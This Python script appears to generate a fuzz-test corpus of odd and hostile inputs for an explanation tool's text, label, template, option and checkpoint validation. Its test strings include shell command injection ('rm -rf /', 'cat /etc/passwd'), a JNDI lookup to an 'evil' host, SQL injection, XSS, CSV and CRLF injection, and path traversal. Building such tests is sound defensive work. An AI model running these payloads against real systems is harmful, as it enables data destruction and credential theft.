"""Write tests/data/fuzz.jsonl, the corpus of odd and hostile inputs tests/test_fuzz.py runs everywhere.

    .venv/bin/python tests/data/make_fuzz.py

One JSON object per line: ``id`` (unique), ``field`` (what the value is given as: text, labels,
template, hypothesis, target, contrast, method, option, checkpoint), ``value``, ``expect`` ("ok", or a
substring every surface's error message must contain: it names the problem), optionally ``method``
(for options), ``note``, and per-surface overrides ``cli``/``app`` ("skip", or another expectation
where that surface means something else by the same input, e.g. an empty template field is the
model's default there).

Values JSON cannot hold, or that would bloat the file, are tagged (``decode`` reads them):
``{"$big_int": n}`` is 10**n (Python refuses to write integers of more than 4,300 digits as text, so
messages must not try), ``{"$repeat": [s, n]}`` is s * n, ``{"$concat": [part, ...]}`` joins strings
and repeats; NaN and Infinity are written as Python's json writes them. Visible characters are written
as they are; invisible ones (controls, surrogates, format characters such as bidi overrides and
zero-width joiners, combining marks, unusual spaces) as \\u escapes, so the file shows what it holds.
"""
from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

OUT = Path(__file__).with_name("fuzz.jsonl")
NAN, INF = float("nan"), float("inf")
ALLOWED_CONTROLS = "\t\n\r\f"
CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0)) if chr(c) not in ALLOWED_CONTROLS]
SENTENCE = "The match was a thrilling final and the striker scored twice"
# A browser cannot send a lone surrogate: widget values travel as UTF-8 (Streamlit's test harness cannot either)
NO_SURROGATES = "skip"


def big_int(digits: int) -> dict:
    return {"$big_int": digits}


def rep(unit: str, times: int) -> dict:
    return {"$repeat": [unit, times]}


def cat(*parts) -> dict:
    return {"$concat": list(parts)}


def decode(value):
    """A value as the corpus means it: tags (see the module docstring) resolved, at any depth."""
    if isinstance(value, dict) and len(value) == 1:
        (tag, arg), = value.items()
        if tag == "$big_int":
            return 10 ** arg
        if tag == "$repeat":
            return arg[0] * arg[1]
        if tag == "$concat":
            return "".join(decode(part) for part in arg)
    if isinstance(value, dict):
        return {k: decode(v) for k, v in value.items()}
    if isinstance(value, list):
        return [decode(v) for v in value]
    return value


def entries() -> list[dict]:
    out: list[dict] = []

    def add(field: str, name: str, value, expect: str = "ok", **extra) -> None:
        out.append({"id": f"{field}/{name}", "field": field, "value": value, "expect": expect, **extra})

    # ------------------------------------------------------------------ texts: refused
    for name, value in [("empty", ""), ("space", " "), ("spaces-tabs-newlines", " \t\n\r\n "),
                        ("form-feed", "\f"), ("nbsp", "\u00a0\u00a0"), ("ideographic-space", "\u3000"),
                        ("line-paragraph-separators", "\u2028\u2029"), ("em-spaces", "\u2003\u2002\u2009")]:
        add("text", name, value, "empty")
    for name, value in [("zero-width-space", "\u200b\u200b"), ("zwj-alone", "\u200d"), ("word-joiner", "\u2060"),
                        ("bom", "\ufeff"), ("rlo-alone", "\u202e"), ("soft-hyphen", "\u00ad"),
                        ("bidi-marks-only", "\u200e\u200f\u061c"), ("isolates-only", "\u2066\u2067\u2068\u2069"),
                        ("combining-mark-alone", "\u0301"), ("variation-selector-alone", "\ufe0f")]:
        add("text", name, value, "nothing to read",
            note="only characters the tokenizer drops: refused by encode, not check_text")
    for name, value in [("none", None), ("int", 42), ("float", 1.5), ("bool", True), ("list", ["a list"]),
                        ("dict", {"text": "hi"}), ("nan", NAN)]:
        add("text", f"type-{name}", value, "string", cli="skip", app="skip")
    add("text", "over-limit-200001", rep("x", 200_001), "limit", app="skip")
    add("text", "over-limit-words", rep("bad film ", 25_000), "limit", app="skip")
    for c in CONTROLS:
        position = 7 + ord(c) % 5
        add("text", f"control-U+{ord(c):04X}", "a fine"[:position].ljust(position, "!") + c + " film",
            f"U+{ord(c):04X} at position {position}")
    add("text", "nul-start", "\x00good film", "U+0000 at position 0")
    add("text", "nul-end", "good film\x00", "U+0000 at position 9")
    add("text", "many-controls", "a\x01b\x02c\x03", "and 2 more")
    add("text", "escape-sequence", "\x1b[31mred\x1b[0m film", "U+001B")
    add("text", "vertical-tab", "good\x0bfilm", "U+000B")
    add("text", "next-line-c1", "good\x85film", "U+0085")
    # JSON reads two escaped halves of a pair as one character, so an adjacent pair of surrogates is concatenated
    for name, value, code in [("lone-high", "\ud800", "U+D800"), ("lone-low", "\udfff", "U+DFFF"),
                              ("low-in-word", "go\udc80od film", "U+DC80 at position 2"),
                              ("reversed-pair", "\udc00\ud800 ok", "U+DC00"),
                              ("split-emoji-pair", cat("nice \ud83d", "\ude00"), "U+D83D at position 5"),
                              ("surrogate-escape-byte", "caf\udce9 latte", "U+DCE9")]:
        add("text", f"surrogate-{name}", value, code, app=NO_SURROGATES)

    # ------------------------------------------------------------------ texts: explained as typed
    ok_texts = {
        "plain": "a fine film",
        "allowed-controls": "a\tgood\nfilm\r\nwith a\fform feed",
        "hebrew": "הסרט היה נהדר ממש",
        "arabic": "كان الفيلم رائعا جدا",
        "persian-zwnj": "می\u200cخواهم این فیلم را ببینم",
        "mixed-rtl-ltr": "I loved שלום and مرحبا the film",
        "bidi-marks": "a \u200egood\u200f film \u061c",
        "bidi-override-trojan": "the film was \u202ebad\u202c good",
        "bidi-isolates": "great \u2066film\u2069 \u2067ok\u2069 \u2068x\u2069",
        "combining-accents": "cafe\u0301 nai\u0308ve re\u0301sume\u0301",
        "zalgo": cat("g", rep("\u0300\u0301\u0302\u0303", 25), "ood film"),
        "zero-width-inside": "go\u200bod fi\u200dlm\u2060!",
        "emoji-zwj-family": "👨\u200d👩\u200d👧\u200d👦 loved it",
        "emoji-flags": "🇫🇷🇺🇸 🇯🇵 great",
        "emoji-skin-tones": "👍🏽 👋🏿 🤦🏼\u200d♀\ufe0f nice",
        "emoji-keycaps": "1\ufe0f\u20e3 2\ufe0f\u20e3 #\ufe0f\u20e3 top",
        "emoji-tag-flag": "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f scotland rocks",
        "emoji-only": "😀😃😄😁",
        "cjk-no-spaces": "这部电影非常好看我很喜欢",
        "japanese": "この映画はとても良かった",
        "korean": "이 영화 정말 좋았어요",
        "thai": "หน\u0e31งเร\u0e37\u0e48องน\u0e35\u0e49ด\u0e35มาก",
        "hindi": "यह फ\u093c\u093fल\u094dम बह\u0941त अच\u094dछ\u0940 थ\u0940",
        "tamil": "தம\u0bbfழ\u0bcd படம\u0bcd நல\u0bcdலத\u0bc1",
        "math-alphanumerics": "𝐠𝐨𝐨𝐝 𝒻𝒾𝓁𝓂",
        "fullwidth": "ＧＯＯＤ\u3000ＦＩＬＭ",
        "private-use": "good \ue000 film \U000f0000",
        "noncharacters": "good \ufffe\uffff film \U0010ffff",
        "replacement-char": "good \ufffd film",
        "soft-hyphen-inside": "won\u00adder\u00adful",
        "nbsp-inside": "good\u00a0film",
        "line-separator-inside": "good\u2028film\u2029end",
        "variation-selectors": "☺\ufe0e ☺\ufe0f ❤\ufe0f",
        "long-word-25k": rep("a", 25_000),
        "long-words-22k": rep("good movie ", 2_000),
        "cjk-30k": rep("好", 30_000),
        "emoji-20k": rep("😀", 20_000),
        "zalgo-20k": cat("e", rep("\u0301", 20_000)),
        "exactly-limit": rep("y", 200_000),
        "url": "https://example.com/a/b?c=d&e=%20f#frag great",
        "dash": "-",
        "double-dash-help": "--help",
        "option-like": "-x --method lime",
        "single-char": "a",
        "single-punct": "!",
        "digits": "1234567890",
        "html-script": "<script>alert('x')</script> great",
        "html-img": "<img src=x onerror=alert(1)> bad",
        "html-entities": "&lt;b&gt; &amp; &#x27; &nbsp;",
        "html-comment": "<!-- hidden --> visible",
        "html-style": "<style>body{display:none}</style>good",
        "markdown": "# Title\n**bold** _it_ [link](javascript:alert(1)) ![img](http://x/y.png)",
        "markdown-table": "| a | b |\n|---|---|\n| 1 | 2 |",
        "streamlit-colors": ":red[danger] :material/home: :smile:",
        "latex-inline": "the cost was $x$ and $y$ dollars",
        "latex-block": "$$\\frac{a}{b} \\int_0^1 f(x)\\,dx$$",
        "latex-dollar-amounts": "it cost $5 and then $10",
        "sql": "'; DROP TABLE users; --",
        "sql-union": "1' OR '1'='1' UNION SELECT * FROM passwords --",
        "shell": "$(rm -rf /) `id` && echo pwned; | cat /etc/passwd",
        "format-braces": "{0} {} {text} {{}} {__class__}",
        "format-percent": "%s %d %n %x %%",
        "format-dollar": "${jndi:ldap://evil/a} ${HOME}",
        "path-traversal-text": "../../etc/passwd",
        "windows-path": "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "json-text": '{"text": "x", "options": {"n_steps": -1}}',
        "csv-injection": "=cmd|' /C calc'!A0",
        "crlf-injection": "good\r\nSet-Cookie: session=evil",
        "backslash-escapes": "\\u0000 \\x00 \\n \\ud800",
        "brackets-deep": cat(rep("(", 500), "good", rep(")", 500)),
        "repeated-punct": rep("!", 3_000),
        "quotes": "\"'`‘’“”«»",
        "mixed-scripts": "Good фильм 好 فيلم फ\u093c\u093fल\u094dम 🎬",
        "numbers-units": "5/5 ⭐⭐⭐⭐⭐ 100% 3.14e10",
    }
    for name, value in ok_texts.items():
        app = "skip" if len(decode(value)) > 20_000 else None  # the app's text box takes at most 20,000 characters
        extra = {"app": app} if app else {}
        add("text", name, value, "ok", **extra)

    # ------------------------------------------------------------------ candidate labels (builtin:zeroshot)
    add("labels", "none", None, "labels", app="skip")
    for name, value in [("empty-list", []), ("empty-string", ""), ("blanks", [" ", ""]),
                        ("commas-only", " , , "), ("ten-thousand-commas", "," * 10_000),
                        ("nbsp-blank", ["\u00a0", "\u3000"])]:
        add("labels", name, value, "No candidate labels")
    for name, value in [("int-list", [1, 2]), ("none-inside", ["sports", None]), ("nested", ["a", ["b"]]),
                        ("float-inside", ["a", NAN]), ("bool-inside", [True, "b"])]:
        add("labels", name, value, "must be strings", cli="skip", app="skip")
    for name, value in [("dict", {"sports": 1}), ("int", 42), ("bool", True)]:
        add("labels", name, value, "Give candidate labels", cli="skip", app="skip")
    add("labels", "twenty-one", [f"topic {i}" for i in range(21)], "at most 20")
    add("labels", "many-distinct", ",".join(f"t{i}" for i in range(500)), "at most 20")
    add("labels", "twenty", [f"topic {i}" for i in range(20)])
    add("labels", "label-201-chars", [rep("x", 201), "b"], "201 characters")
    add("labels", "label-200-chars", [rep("y", 200), "b"])
    add("labels", "huge-label-string", rep("z", 1_000_000), "characters", app="skip")
    add("labels", "duplicates", ["sports", "sports", " sports "])
    add("labels", "duplicates-string", "sports, politics,, sports ,")
    add("labels", "single", ["sports"])
    add("labels", "case-variants", ["Sports", "sports", "SPORTS"])
    add("labels", "nul", ["sports", "poli\x00tics"], "U+0000 at position 4")
    add("labels", "escape", "sports, \x1b[31mred", "U+001B")
    add("labels", "c1", ["a\x9fb", "c"], "U+009F")
    add("labels", "surrogate", ["\ud800", "b"], "U+D800", app=NO_SURROGATES)
    add("labels", "surrogate-string", "sports, caf\udce9", "U+DCE9", app=NO_SURROGATES)
    add("labels", "cjk", ["体育", "政治", "商业"])
    add("labels", "rtl", ["ספורט", "سياسة"])
    add("labels", "emoji", ["👍", "👎", "🇫🇷"])
    add("labels", "zero-width", ["\u200b", "sports"])
    add("labels", "bidi-override", ["\u202esports", "politics"])
    add("labels", "html", ["<script>alert(1)</script>", "<b>politics</b>"])
    add("labels", "braces", ["{}", "{0}", "{{x}}"])
    add("labels", "percent-latex", ["%s", "$x$", "\\frac{a}{b}"])
    add("labels", "sql-shell", ["'; DROP TABLE x; --", "$(reboot)"])
    add("labels", "comma-inside", ["sports, politics", "business"], cli="skip")
    add("labels", "tuple-like-string", "('a', 'b')")

    # ------------------------------------------------------------------ hypothesis templates (builtin:zeroshot)
    add("template", "empty", "", "exactly once", cli="ok", app="ok",
        note="the CLI and the app read an empty template field as the model's default")
    add("template", "blank", "   ", "exactly once")
    add("template", "no-placeholder", "no placeholder", "exactly once")
    add("template", "two-placeholders", "{} and {}", "exactly once")
    add("template", "escaped-only", "{{}}", "exactly once")
    add("template", "percent", "This is %s.", "exactly once")
    add("template", "dollar", "This is ${label}.", "plain")
    add("template", "index", "{0} here", "plain")
    add("template", "name", "{name}", "plain")
    add("template", "conversion", "{!r}", "plain")
    add("template", "format-spec", "{:>30}", "plain")
    add("template", "attribute", "{.__class__.__mro__}", "plain")
    add("template", "item", "{[0]}", "plain")
    add("template", "globals", "{0.__init__.__globals__}", "plain")
    add("template", "open-brace", "{} {", "brace")
    add("template", "close-brace", "}{}", "brace")
    add("template", "lone-open", "{", "brace")
    add("template", "nul", "This is {}.\x00", "U+0000 at position 11")
    add("template", "escape", "\x1b[2J{}", "U+001B at position 0")
    add("template", "surrogate", "\ud83d {}", "U+D83D", app=NO_SURROGATES)
    add("template", "too-long", cat(rep("x", 1_001), "{}"), "limit")
    add("template", "huge", cat(rep("y", 300_000), " {}"), "limit", app="skip")
    add("template", "int", 42, "string", cli="skip", app="skip")
    add("template", "list", ["{}"], "string", cli="skip", app="skip")
    add("template", "placeholder-only", "{}")
    add("template", "literal-braces", "A {} story {{not a field}}")
    add("template", "cjk", "这是{}新闻")
    add("template", "rtl", "זה סיפור {}")
    add("template", "emoji", "🎉 {} 🎉")
    add("template", "html", "<b>{}</b><script>alert(1)</script>")
    add("template", "latex", "$\\mathrm{{{}}}$")
    add("template", "newline", "Topic:\n{}")
    add("template", "zero-width", "A\u200b {} story")

    # ------------------------------------------------------------------ NLI pair hypotheses (a tiny NLI model)
    for name, value in [("empty", ""), ("blank", "  \t\n"), ("nbsp", "\u00a0")]:
        add("hypothesis", name, value, "empty")
    add("hypothesis", "int", 42, "must be a string", cli="skip", app="skip")
    add("hypothesis", "list", ["a"], "must be a string", cli="skip", app="skip")
    add("hypothesis", "nul", "Someone\x00 is happy.", "U+0000 at position 7")
    add("hypothesis", "bell", "\x07", "U+0007")
    add("hypothesis", "surrogate", "happy \udfff", "U+DFFF", app=NO_SURROGATES)
    add("hypothesis", "plain", "Someone is happy.")
    add("hypothesis", "rtl", "מישהו שמח.")
    add("hypothesis", "emoji", "👍🏽 🇫🇷")
    add("hypothesis", "html", "<script>alert(1)</script>")
    add("hypothesis", "format", "{} {0} %s $x$")
    add("hypothesis", "long", rep("happy ", 2_000), "fit", note="the hypothesis alone is longer than the model reads")

    # ------------------------------------------------------------------ targets and contrasts (builtin:sst2)
    for value in ["positive", "negative", " positive ", 0, 1, "0", "1", " 1 ", None]:
        add("target", f"ok-{value!r}", value, "ok", **({"cli": "skip"} if value is None else {}))
    for value in ["POSITIVE", "neutral", "", " ", "-1", "--1", "2", "99", "²", "١", "1e0", "0x1", "1.0",
                  "positive\x00", "\ud800", "<script>", -1, 2, 99, 1.5, 1.0, True, False, NAN, INF,
                  10**30, [], [1], {"a": 1}, big_int(5_000)]:
        cli = {} if isinstance(value, str) else {"cli": "skip"}
        add("target", f"bad-{json.dumps(value, ensure_ascii=True)[:30]}", value, "Unknown target", **cli)
    add("contrast", "ok-negative", "negative")
    add("contrast", "same-as-target", "positive", "must differ")
    add("contrast", "unknown", "neutral", "Unknown target")
    add("contrast", "index-99", 99, "Unknown target", cli="skip")
    add("contrast", "surrogate", "\udc00", "Unknown target")

    # ------------------------------------------------------------------ methods
    for value in ["shapley_magic", "", "Saliency", " saliency", "saliency\x00", "../attribution"]:
        add("method", f"bad-{value.encode('unicode_escape').decode()}", value, "Unknown method",
            cli="invalid choice")
    for value in [None, 3, ["saliency"], {"saliency": 1}, True]:
        add("method", f"bad-{json.dumps(value)}", value, "Unknown method", cli="skip")

    # ------------------------------------------------------------------ method options (builtin:sst2)
    def option(method: str, name: str, value, expect: str = "ok") -> None:
        tag = json.dumps(value, ensure_ascii=True)[:24]
        add("option", f"{method}.{name.encode('unicode_escape').decode()}={tag}", {name: value}, expect, method=method)

    ig = "integrated_gradients"
    for value in [-1, 0, 2001, 10**30]:
        option(ig, "n_steps", value, "out of range")
    option(ig, "n_steps", big_int(5_000), "out of range")
    for value in [2.5, "many", "", True, False, NAN, INF, -INF, [1], {"a": 1}, "1e3", "0x10"]:
        option(ig, "n_steps", value, "must be a int")
    for value in [8, "8", 8.0, None]:
        option(ig, "n_steps", value)
    for value in [0, -1, 1, 0.51, NAN, INF, -INF, 10**400, big_int(5_000), "nan", "inf"]:
        option(ig, "tolerance", value, "out of range")
    for value in ["loose", True, [0.01], None]:
        option(ig, "tolerance", value, "must be a float")
    option(ig, "tolerance", "0.05")
    for value in [16, 4098, -1, 10**9]:
        option(ig, "max_steps", value, "out of range")
    for value in ["simpson", None, "", "GaussLegendre", 1]:
        option(ig, "integration", value, "not allowed")
    for value in ["zeros", "PAD", "", None, 0, ["pad"]]:
        option(ig, "baseline", value, "not allowed")
    option(ig, "baseline", "eos", "no eos token")
    option(ig, "baseline", "mask")
    for value in [0, -5, 1025]:
        option(ig, "internal_batch_size", value, "out of range")
    option(ig, "internal_batch_size", "x", "must be a int")
    for value in ["fp16", "FP32", True, None]:
        option(ig, "precision", value, "not allowed")
    for value in ["odds", "", None, "logits", ["logit"]]:
        option(ig, "output", value, "not allowed")
    for value in ["median", "SUM", None]:
        option(ig, "aggregation", value, "not allowed")
    for name in ["steps", "", "__class__", "N_STEPS", "n_steps\x00", "\ud800", "<script>"]:
        option(ig, name, 1, "has no option")
    add("option", "integrated_gradients.n_steps-space", {"n_steps ": 8}, "has no option", method=ig, cli="ok",
        note="--option name=value strips the name")
    option("saliency", "n_steps", 5, "has no option")
    option("saliency", "baseline", "pad", "has no option")
    option("saliency", "output", "logit")
    option("saliency", "aggregation", "max")
    option("input_x_gradient", "aggregation", "mean")
    for value in [0, 501, -1]:
        option("smoothgrad", "samples", value, "out of range")
    option("smoothgrad", "samples", "abc", "must be a int")
    for value in [-0.1, 1.5, NAN, INF]:
        option("smoothgrad", "noise", value, "out of range")
    for value in [-1, 2**31, big_int(400)]:
        option("smoothgrad", "seed", value, "out of range")
    option("smoothgrad", "samples", 2)
    for value in [9, 5001]:
        option("lime", "samples", value, "out of range")
    option("lime", "samples", 10)
    option("kernel_shap", "samples", 10)
    option("kernel_shap", "seed", -1, "out of range")
    option("occlusion", "baseline", "eos", "no eos token")
    option("occlusion", "baseline", "pad")
    option("occlusion", "baseline", "zeros", "not allowed")
    option("attention_last", "output", "logit")
    option("attention_rollout", "aggregation", "max")
    option("attention_gradient", "n_steps", 8, "has no option")

    # ------------------------------------------------------------------ checkpoints (ex.load, hub offline)
    for value in ["builtin:sst2", " builtin:sst2 ", "builtin:sst2\n"]:
        add("checkpoint", f"ok-{value.strip()}-{len(value)}", value)
    add("checkpoint", "ok-builtin:zeroshot", "builtin:zeroshot", cli="pass labels",
        note="the CLI's explain then needs candidate labels, and says so")
    for value in ["", "   ", "\t\n"]:
        add("checkpoint", f"empty-{len(value)}", value, "No checkpoint")
    for value in [None, 42, ["builtin:sst2"]]:
        add("checkpoint", f"type-{json.dumps(value)}", value, "checkpoint", cli="skip")
    for value in ["builtin:nope", "builtin:", "builtin:../sst2", "builtin:sst2/../../etc", "builtin:SST2"]:
        add("checkpoint", f"builtin-{value[8:] or 'blank'}", value, "built-in")
    for value in ["../../etc/passwd", "owner/name/extra", "a" * 200, "http://evil", "https://evil.example/model",
                  "file:///etc/passwd", "owner//name", "-rf", "--help", "~", "owner/na me", "owner/name;rm -rf /",
                  "$(id)/x", "owner/name\x00", "owner/\ud800", "<script>/x", "BUILTIN:sst2", "a/b/c/d/e/f"]:
        add("checkpoint", f"invalid-{value.encode('unicode_escape').decode()[:40]}", value,
            "neither a built-in checkpoint")
    for value in ["owner/name", "distilbert-base-uncased", "a-b_c.d/e-f_g.h", "con", "nul"]:
        add("checkpoint", f"hub-{value}", value, "Cannot reach the Hugging Face Hub",
            note="a valid hub id, with the hub offline in the tests")
    add("checkpoint", "file", "/etc/passwd", "is a file")
    add("checkpoint", "dev-null", "/dev/null", "is a file")
    add("checkpoint", "folder-without-model", "/", "config")
    return out


def _invisible(ch: str) -> bool:
    """Characters written as \\u escapes: controls, surrogates, format, private-use and unassigned code
    points, combining marks and every space but the ASCII one."""
    category = unicodedata.category(ch)
    return category[0] in "CMZ" and ch != " "


def line(row: dict) -> str:
    """One entry as a line of JSON, its invisible characters escaped (ASCII-safe inside strings only:
    JSON's own syntax is ASCII)."""
    text = json.dumps(row, ensure_ascii=False)
    return re.sub(r"[^\x20-\x7e]", lambda m: _escape(m.group()) if _invisible(m.group()) else m.group(), text)


def _escape(ch: str) -> str:
    code = ord(ch)
    if code > 0xFFFF:  # a surrogate pair, as JSON writes characters beyond the BMP
        code -= 0x10000
        return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"
    return f"\\u{code:04x}"


def main() -> None:
    rows = entries()
    ids = [row["id"] for row in rows]
    duplicates = sorted({i for i in ids if ids.count(i) > 1})
    if duplicates:
        raise SystemExit(f"duplicate ids: {duplicates}")
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(line(row) + "\n")
    print(f"wrote {len(rows)} entries to {OUT}")


if __name__ == "__main__":
    main()
